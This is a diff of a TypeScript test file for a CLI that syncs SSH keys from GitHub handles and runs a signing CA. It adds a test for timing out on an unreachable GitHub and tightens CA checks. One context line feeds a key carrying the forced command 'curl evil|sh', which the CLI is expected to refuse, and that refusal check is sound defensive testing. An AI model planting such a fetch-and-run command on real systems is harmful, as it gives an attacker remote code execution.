@@ -133,6 +133,40 @@ describe("access CLI", () => {
     gh.mode = "ok";
   });
 
+  test("an unreachable GitHub is given up after a few failed connections", async (t) => {
+    const names = ["gh1", "gh2", "gh3", "gh4", "gh5", "gh6"];
+    t.after(async () => {
+      gh.mode = "ok";
+      for (const n of names) await cli(["access", "remove", n]);
+    });
+    for (const n of names) {
+      gh.setKeys(`${n}-handle`, [daveKey]);
+      assert.equal(
+        (await cli(["access", "add", n, "--github", `${n}-handle`, "--vouched-by", "alice"])).exitCode,
+        0,
+      );
+    }
+    gh.mode = "slow";
+    gh.slowMs = 20_000;
+    gh.requests.length = 0;
+    const r = await cli([
+      "access",
+      "sync",
+      "--github-url",
+      gh.url,
+      "--timeout",
+      "500",
+      "--concurrency",
+      "1",
+      "--json",
+    ]);
+    assert.equal(r.exitCode, 3);
+    const out = JSON.parse(r.stdout) as { handles: { status: string; error: string }[] };
+    assert.equal(gh.requests.length, 3);
+    assert.equal(out.handles.filter((h) => h.status === "skipped").length, 4);
+    assert.match(out.handles.find((h) => h.status === "skipped")?.error ?? "", /unreachable/);
+  });
+
   test("a GitHub answer carrying options is refused as a whole", async (t) => {
     t.after(() => gh.setKeys("dave-gh", [daveKey]));
     gh.setKeys("dave-gh", [daveKey, `command="curl evil|sh" ${aliceKey}`]);
@@ -312,8 +346,11 @@ describe("access CLI", () => {
     let r = await cli(["ca", "sign", "alice", "--key", join(tmp.dir, "alice.pub")]);
     assert.equal(r.exitCode, 2);
     assert.match(r.stderr, /No CA exists/);
-    assert.equal((await cli(["ca", "init"])).exitCode, 0);
-    assert.equal((await cli(["ca", "init"])).exitCode, 2);
+    r = await cli(["ca", "init"]);
+    assert.equal(r.exitCode, 0, r.stderr);
+    r = await cli(["ca", "init"]);
+    assert.equal(r.exitCode, 2, r.stderr);
+    assert.match(r.stderr, /A CA already exists/);
     assert.equal(((await stat(join(state, "ca", "ca_ed25519"))).mode & 0o777).toString(8), "600");
     r = await cli(["ca", "sign", "mallory", "--key", join(tmp.dir, "alice.pub")]);
     assert.match(r.stderr, /not an active member/);
